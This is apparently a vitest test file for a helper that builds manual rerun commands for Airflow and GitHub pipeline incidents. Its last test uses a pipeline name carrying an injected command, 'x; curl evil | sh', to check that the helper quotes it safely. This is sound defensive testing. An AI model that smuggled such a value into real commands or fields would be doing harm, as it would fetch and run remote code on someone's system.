import { expect, it } from "vitest";
import { commandByHand } from "@/lib/fixes/reruns/command-by-hand";
import { failureReport } from "@/lib/failures/testing/report";
import type { IncidentContext } from "@/lib/incidents/incident-context";

const incident = (
  part: Partial<IncidentContext>,
  refs: Record<string, string | null> = {},
): IncidentContext => ({
  incidentId: "i",
  number: 1,
  title: "t",
  rootCause: null,
  fingerprint: "f",
  report: failureReport({ refs }),
  detectedBy: "webhook",
  openedAt: new Date(0),
  lastSeenAt: new Date(0),
  pipelineId: "p",
  pipeline: "orders_daily",
  taskId: "t",
  task: "transform",
  operator: null,
  flakeScore: null,
  run: "run-1",
  tryNumber: 1,
  mapIndex: -1,
  source: { id: "s", kind: "airflow", name: "S", apiBaseUrl: null, repository: null, dagsFolder: null },
  ...part,
});

const command = (kind: string, about: IncidentContext, branch: string | null = "main") =>
  commandByHand({ incident: { ...about, source: { ...about.source, kind } }, branch });

it.each([
  [
    "airflow",
    incident({ task: "load.orders" }),
    String.raw`airflow tasks clear '--task-regex=^load\.orders$' --downstream --start-date=2026-11-20T00:00:00Z --end-date=2026-11-20T00:00:00Z -- orders_daily`,
  ],
  ["airflow", incident({ report: failureReport({ run: null }) }), null],
  ["dbt", incident({}, { dbt_cloud_run: "7" }), null],
  [
    "github",
    incident({ run: "9" }, { repository: "acme/pipes", workflow: ".github/workflows/etl.yml" }),
    "gh workflow run --repo=acme/pipes --ref=main -- etl.yml",
  ],
] as const)("%s: what to run by hand", (kind, about, expected) => {
  expect(command(kind, about)).toBe(expected);
});

it("quotes what reports name, so that a command runs nothing else", () => {
  const hostile = command("airflow", incident({ pipeline: "x; curl evil | sh" }));
  expect(hostile).toMatch(/ -- 'x; curl evil \| sh'$/);
});
